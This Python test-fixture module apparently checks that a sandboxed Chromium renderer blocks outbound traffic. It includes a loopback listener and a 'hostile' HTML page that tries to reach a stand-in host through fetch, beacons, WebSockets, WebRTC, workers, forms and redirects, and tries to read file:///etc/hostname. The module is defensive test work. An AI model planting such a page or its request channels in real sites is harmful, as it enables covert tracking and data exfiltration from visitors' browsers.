"""Pages to draw and servers to draw them from: loopback, synthetic."""

from __future__ import annotations

import base64
import socket
import struct
import threading
import time
import zlib

from osint_helpers.evidence.render.browser import Chromium

RED, GREEN, BLUE = (200, 30, 30), (30, 160, 60), (20, 40, 200)


def png(colour: tuple[int, int, int], width: int = 60, height: int = 40) -> bytes:
    """Return a PNG of one colour."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + crc

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    lines = (b"\0" + bytes(colour) * width) * height
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(lines))
        + chunk(b"IEND", b"")
    )


def answer(body: bytes, kind: str, headers: str = "") -> bytes:
    """Return a whole HTTP answer for ``Lab.serve``."""
    head = (
        f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\n{headers}Content-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


_COLOURS = """async (address) => {
  const image = new Image(); image.src = address; await image.decode();
  const canvas = new OffscreenCanvas(image.width, image.height).getContext('2d');
  canvas.drawImage(image, 0, 0);
  const words = new Uint32Array(
    canvas.getImageData(0, 0, image.width, image.height).data.buffer);
  return [...new Set(words)].map(w => [w & 255, (w >> 8) & 255, (w >> 16) & 255]);
}"""


def colours(chromium: Chromium, data: bytes) -> set[tuple[int, ...]]:
    """Return every colour of a PNG, read by the browser itself: quicker than any decoder here."""

    async def job(browser):
        page = await browser.new_page()
        address = f"data:image/png;base64,{base64.b64encode(data).decode()}"
        found = await page.evaluate(_COLOURS, address)
        await page.close()
        return {tuple(one) for one in found}

    return chromium.run(job)


class Listener:
    """A host that must not be reached: counts TCP connections and UDP packets on one port."""

    def __init__(self, host: str = "127.0.0.2") -> None:
        self.host = host
        self._tcp = socket.create_server((host, 0), backlog=128)
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind((host, self.port))
        self.heard: list[str] = []
        self._closing = threading.Event()
        self._threads = [threading.Thread(target=one) for one in (self._accept, self._receive)]

    def __enter__(self) -> Listener:
        for one in (self._tcp, self._udp):
            one.settimeout(0.05)
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        time.sleep(0.2)  # what is still under way
        self._closing.set()
        for thread in self._threads:
            thread.join()
        self._tcp.close()
        self._udp.close()

    def _accept(self) -> None:
        while not self._closing.is_set():
            try:
                client, _ = self._tcp.accept()
            except TimeoutError:
                continue
            client.settimeout(0.5)
            with client:
                try:
                    self.heard.append(f"TCP {client.recv(80)!r}")
                    client.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                except OSError:
                    self.heard.append("TCP")

    def _receive(self) -> None:
        while not self._closing.is_set():
            try:
                data, _ = self._udp.recvfrom(2000)
            except TimeoutError:
                continue
            self.heard.append(f"UDP {len(data)}")


def hostile(other: str, lab: str) -> bytes:
    """Return a page that tries every way out to ``other`` (host:port); `lab` is its own server."""
    return f"""<!doctype html><title>SYNTHETIC hostile page</title>
<link rel=prefetch href=http://{other}/prefetch><link rel=dns-prefetch href=http://{other}>
<link rel=preconnect href=http://{other}><link rel=stylesheet href=http://{other}/style.css>
<link rel=preload as=image href=http://{other}/preload><link rel=icon href=http://{other}/icon>
<link rel=manifest href=http://{other}/manifest>
<script type=speculationrules>{{"prefetch":[{{"urls":["http://{other}/spec"],
"eagerness":"immediate"}}],"prerender":[{{"urls":["http://{other}/pre"],
"eagerness":"immediate"}}]}}</script>
<style>@font-face{{font-family:F;src:url(http://{other}/font)}} h1{{font-family:F}}
body{{background:url(http://{other}/background)}}</style>
<h1>SYNTHETIC</h1><img src=http://{other}/img><img src="{lab}/to?u=http://{other}/redirected">
<iframe src=http://{other}/iframe></iframe><iframe src=file:///etc/hostname></iframe>
<iframe srcdoc="<img src=http://{other}/srcdoc>"></iframe><object data=http://{other}/object></object>
<video src=http://{other}/video autoplay></video><audio src=http://{other}/audio autoplay></audio>
<form id=f method=post action=http://{other}/form></form>
<a id=a download href=http://{other}/download ping=http://{other}/ping>x</a>
<script>
const h = 'http://{other}', t = f => {{ try {{ const r = f(); r && r.catch && r.catch(() => 0) }}
  catch (e) {{}} }};
t(() => fetch(h + '/fetch')); t(() => fetch(h + '/post', {{method: 'POST', body: 'x'}}));
t(() => fetch(h + '/header', {{headers: {{'X-A': 'b'}}}}));
t(() => fetch('file:///etc/hostname')); t(() => navigator.sendBeacon(h + '/beacon', 'x'));
t(() => {{ const x = new XMLHttpRequest(); x.open('GET', h + '/xhr'); x.send() }});
t(() => new WebSocket('ws://{other}/ws')); t(() => new EventSource(h + '/events'));
t(() => new WebTransport('https://{other}/wt'));
t(() => {{ const p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{other}'}},
  {{urls: 'turn:{other}?transport=tcp', username: 'a', credential: 'b'}}]}});
  p.createDataChannel('a'); return p.createOffer().then(o => p.setLocalDescription(o)) }});
t(() => navigator.serviceWorker.register('/worker.js'));
t(() => new Worker(URL.createObjectURL(new Blob([`fetch('${{h}}/worker-fetch').catch(() => 0);
  try {{ new WebSocket('ws://{other}/worker-ws') }} catch (e) {{}}
  importScripts('${{h}}/worker-script')`]))));
t(() => window.open(h + '/popup')); t(() => document.getElementById('a').click());
t(() => new Image().src = h + '/late');
setTimeout(() => t(() => document.getElementById('f').submit()), 150);
setTimeout(() => {{ location.href = h + '/away' }}, 300);
</script><meta http-equiv=refresh content="0;url=http://{other}/refresh">""".encode()
